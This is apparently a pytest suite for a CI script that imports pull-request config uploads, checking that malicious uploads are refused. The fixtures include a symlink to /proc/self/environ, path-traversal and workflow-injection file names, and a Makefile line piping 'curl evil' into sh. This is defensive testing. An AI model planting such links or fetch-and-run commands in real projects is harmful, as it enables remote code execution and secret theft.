"""The data import of config-pr-plan (.github/scripts/pr_data.py): a pull request's upload becomes a
scratch commit on main only when every file is a plain record or schema file and the triggering run
vouches for the pull request; anything else is refused with exit code 1 and nothing written to git."""
from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pygit2
import pytest
from helpers import ROOT, commit_all, init_repo, run, sqlite_moose

SCRIPT = ROOT / ".github" / "scripts" / "pr_data.py"
REF = "refs/configsync/pull-request"
REPOSITORY = "acme/config"
HEAD_SHA = "1" * 40
NUMBER = 7
RECORD = "config-snapshots/system_config/max_retries.yaml"

Entry = tuple[str, bytes] | tarfile.TarInfo


def make_tar(path: Path, entries: list[Entry]) -> None:
    with tarfile.open(path, "w") as tar:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                tar.addfile(entry)
            else:
                name, data = entry
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))


def event(head_sha: str = HEAD_SHA, number: int = NUMBER, head_repo: str = REPOSITORY) -> dict[str, Any]:
    return {"repository": {"full_name": REPOSITORY},
            "workflow_run": {"id": 99, "event": "pull_request", "conclusion": "success", "head_sha": head_sha,
                             "head_repository": {"full_name": head_repo},
                             "pull_requests": [{"number": number, "head": {"sha": head_sha}, "base": {"ref": "main"}}]}}


@pytest.fixture
def main_repo(tmp_path: Path) -> Path:
    repo = tmp_path / "main"
    init_repo(repo)
    record = repo / RECORD
    record.parent.mkdir(parents=True)
    record.write_text("key: max_retries\nvalue: 3\n")
    commit_all(repo, "main's records")
    return repo


def state(repo: Path) -> tuple[str, str, str, bool]:
    """HEAD, the objects git holds, the work tree's status, and whether the scratch ref exists."""
    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True, check=True).stdout
    has_ref = subprocess.run(["git", "rev-parse", "--verify", "-q", REF], cwd=repo, capture_output=True).returncode == 0
    return git("rev-parse", "HEAD").strip(), git("count-objects", "-v"), git("status", "--porcelain"), has_ref


def import_data(repo: Path, tmp_path: Path, entries: list[Entry], meta: Any = None,
                run_event: dict[str, Any] | None = None) -> tuple[subprocess.CompletedProcess[str], str]:
    data = tmp_path / "data"
    data.mkdir(exist_ok=True)
    make_tar(data / "files.tar", entries)
    (data / "pull-request.json").write_text(json.dumps({"number": NUMBER, "head_sha": HEAD_SHA} if meta is None else meta))
    event_file, output = tmp_path / "event.json", tmp_path / "output"
    event_file.write_text(json.dumps(run_event or event()))
    output.write_text("")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CONFIGSYNC_"))}
    env.update(GITHUB_EVENT_PATH=str(event_file), GITHUB_OUTPUT=str(output))
    proc = subprocess.run([sys.executable, str(SCRIPT), "import", "--data", str(data), "--repo", str(repo)],
                          capture_output=True, text=True, env=env, check=False)
    return proc, output.read_text()


def special(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    return info


GOOD = (RECORD, b"key: max_retries\nvalue: 5\n")
REFUSED: dict[str, tuple[list[Entry], Any, dict[str, Any] | None, str]] = {
    "symlink": ([GOOD, special("config-snapshots/system_config/x.yaml", tarfile.SYMTYPE, "/proc/self/environ")],
                None, None, "a symbolic link"),
    "hard link": ([GOOD, special("schemas/x.json", tarfile.LNKTYPE, RECORD)], None, None, "a hard link"),
    "fifo": ([special("config-snapshots/system_config/p.yaml", tarfile.FIFOTYPE)], None, None, "not a regular file"),
    "dot-dot": ([GOOD, ("config-snapshots/../Makefile", b"all:\n")], None, None, "'..'"),
    "absolute": ([("/config-snapshots/a.yaml", b"x: 1\n")], None, None, "an absolute path"),
    "outside": ([GOOD, (".github/workflows/evil.yml", b"on: push\n")], None, None, "outside config-snapshots/"),
    "dot-git": ([("config-snapshots/.git/config", b"[core]\n")], None, None, "'.git' component"),
    "control character": ([("config-snapshots/a\nb.yaml", b"x: 1\n")], None, None, "control character"),
    "a file for a directory": ([("schemas", b"x")], None, None, "outside config-snapshots/"),
    "not UTF-8": ([("config-snapshots/system_config/\udcff.yaml", b"x: 1\n")], None, None, "not UTF-8"),
    "twice": ([GOOD, GOOD], None, None, "more than once"),
    "oversized": ([("schemas/big.json", b" " * (10 * 1024 * 1024 + 1))], None, None, "more than 10485760"),
    "wrong head": ([GOOD], {"number": NUMBER, "head_sha": "2" * 40}, None, "not the triggering run's head"),
    "number as text": ([GOOD], {"number": str(NUMBER), "head_sha": HEAD_SHA}, None, "positive integer"),
    "number as bool": ([GOOD], {"number": True, "head_sha": HEAD_SHA}, None, "positive integer"),
    "number of another pull request": ([GOOD], {"number": 8, "head_sha": HEAD_SHA}, None,
                                       "not one of the triggering run's pull requests"),
    "fork": ([GOOD], None, event(head_repo="mallory/config"), "pull requests from forks"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_bad_uploads_are_refused_and_nothing_is_written(main_repo: Path, tmp_path: Path, case: str) -> None:
    entries, meta, run_event, message = REFUSED[case]
    before = state(main_repo)
    proc, outputs = import_data(main_repo, tmp_path, entries, meta, run_event)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "::error::" in proc.stdout and message in proc.stdout, proc.stdout
    assert "Traceback" not in proc.stderr, proc.stderr
    assert state(main_repo) == before  # no ref, no object, HEAD and work tree as they were
    assert "found" not in outputs


def test_the_upload_becomes_one_commit_on_main_and_nothing_else_changes(main_repo: Path, tmp_path: Path) -> None:
    (main_repo / "Makefile").write_text("all:\n")
    commit_all(main_repo, "main has more than config")
    head, _, status, _ = state(main_repo)
    added = 'config-snapshots/system_config/we"ird \\name é.yaml'
    proc, outputs = import_data(main_repo, tmp_path, [
        special("config-snapshots/", tarfile.DIRTYPE),  # a directory entry, as git archive writes them
        GOOD, (added, b"key: x\nvalue: 1\n"), ("configsync.yaml", (main_repo / "configsync.yaml").read_bytes()),
    ])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    repo = pygit2.Repository(str(main_repo))
    commit = repo.revparse_single(REF).peel(pygit2.Commit)
    assert "commit<<" in outputs and str(commit.id) in outputs and "number<<" in outputs
    assert [str(p) for p in commit.parent_ids] == [head]
    tree = commit.tree
    assert tree[RECORD].data == GOOD[1] and tree[added].data == b"key: x\nvalue: 1\n"
    assert tree["Makefile"].data == b"all:\n"  # main's other files stay
    assert "schemas" not in tree  # the pull request has none: its tree, not main's
    assert tree[RECORD].filemode == pygit2.enums.FileMode.BLOB
    after_head, _, after_status, _ = state(main_repo)
    assert (after_head, after_status) == (head, status)  # HEAD and the work tree untouched


def test_no_upload_is_no_plan(main_repo: Path, tmp_path: Path) -> None:
    output = tmp_path / "output"
    output.write_text("")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    proc = subprocess.run([sys.executable, str(SCRIPT), "import", "--data", str(tmp_path / "none"), "--repo", str(main_repo)],
                          capture_output=True, text=True, env={**env, "GITHUB_OUTPUT": str(output)}, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "found<<" in output.read_text() and "\nfalse\n" in output.read_text()


def test_the_scratch_commit_is_planned_with_mains_settings(
    main_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """What config-pr-plan runs next: main's configsync.yaml plans the pull request's records; a pull
    request whose configsync.yaml stops excluding a column gets its plan withheld (exit 4)."""
    url = sqlite_moose(tmp_path / "db.sqlite")
    monkeypatch.delenv("CONFIGSYNC_DATABASE_URL", raising=False)
    assert run(main_repo, "snapshot", "--commit", database=url).code in (0, 2)
    snapshot = {p.relative_to(main_repo).as_posix(): p.read_bytes()
                for p in [*(main_repo / "config-snapshots").rglob("*.yaml"), *(main_repo / "schemas").rglob("*.json")]}
    name = "config-snapshots/system_config/budget_limits.yaml"
    assert b"daily_hard_cap: 50" in snapshot[name]
    changed = snapshot[name].replace(b"daily_hard_cap: 50", b"daily_hard_cap: 51")
    config = (main_repo / "configsync.yaml").read_bytes()

    def plan(files: Callable[[], list[Entry]]) -> Any:
        proc, _ = import_data(main_repo, tmp_path, files())
        assert proc.returncode == 0, proc.stdout + proc.stderr
        return run(main_repo, "plan", "--trusted-config", "configsync.yaml", "--ref", REF, "--format", "markdown",
                   database=url)

    result = plan(lambda: [*((n, d) for n, d in snapshot.items() if n != name), (name, changed),
                           ("configsync.yaml", config)])
    assert result.code == 2, result.out + result.err
    assert "budget_limits" in result.out and "51" in result.out
    unhidden = config.replace(b"exclude: [created_at, updated_at]", b"exclude: [created_at]", 1)  # shows updated_at
    assert unhidden != config
    result = plan(lambda: [*snapshot.items(), ("configsync.yaml", unhidden)])
    assert result.code == 4, result.out + result.err


def test_pack_takes_only_the_config_from_git_and_a_link_stays_a_link_the_import_refuses(
    main_repo: Path, tmp_path: Path,
) -> None:
    """config-pr's side: git archive of HEAD limited to the config paths (the work tree is not read, so an
    uncommitted file is not packed); a symbolic link is packed as a link entry, never followed, and the
    import refuses the upload."""
    pr = tmp_path / "pr"
    subprocess.run(["git", "clone", "--quiet", str(main_repo), str(pr)], check=True)
    (pr / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    (pr / "config-snapshots" / "system_config" / "env.yaml").symlink_to("/proc/self/environ")
    subprocess.run(["git", "add", "-A"], cwd=pr, check=True)
    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "-m", "pr"], cwd=pr, check=True)
    (pr / "config-snapshots" / "system_config" / "uncommitted.yaml").write_text("x: 1\n")
    out, output = tmp_path / "data", tmp_path / "output"
    output.write_text("")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    proc = subprocess.run([sys.executable, str(SCRIPT), "pack", "--repo", str(pr), "--out", str(out), "--number", "7",
                           "--head-sha", HEAD_SHA], capture_output=True, text=True, env={**env, "GITHUB_OUTPUT": str(output)},
                          check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert json.loads((out / "pull-request.json").read_text()) == {"number": 7, "head_sha": HEAD_SHA}
    with tarfile.open(out / "files.tar") as tar:
        members = {m.name: m for m in tar.getmembers() if not m.isdir()}
    assert set(members) == {RECORD, "config-snapshots/system_config/env.yaml", "configsync.yaml",
                            *(f"schemas/{p.name}" for p in (main_repo / "schemas").iterdir())}
    assert members["config-snapshots/system_config/env.yaml"].issym()

    before = state(main_repo)
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps(event()))
    proc = subprocess.run([sys.executable, str(SCRIPT), "import", "--data", str(out), "--repo", str(main_repo),
                           "--event", str(event_file)], capture_output=True, text=True, env=env, check=False)
    assert proc.returncode == 1 and "env.yaml: a symbolic link" in proc.stdout, proc.stdout + proc.stderr
    assert state(main_repo) == before
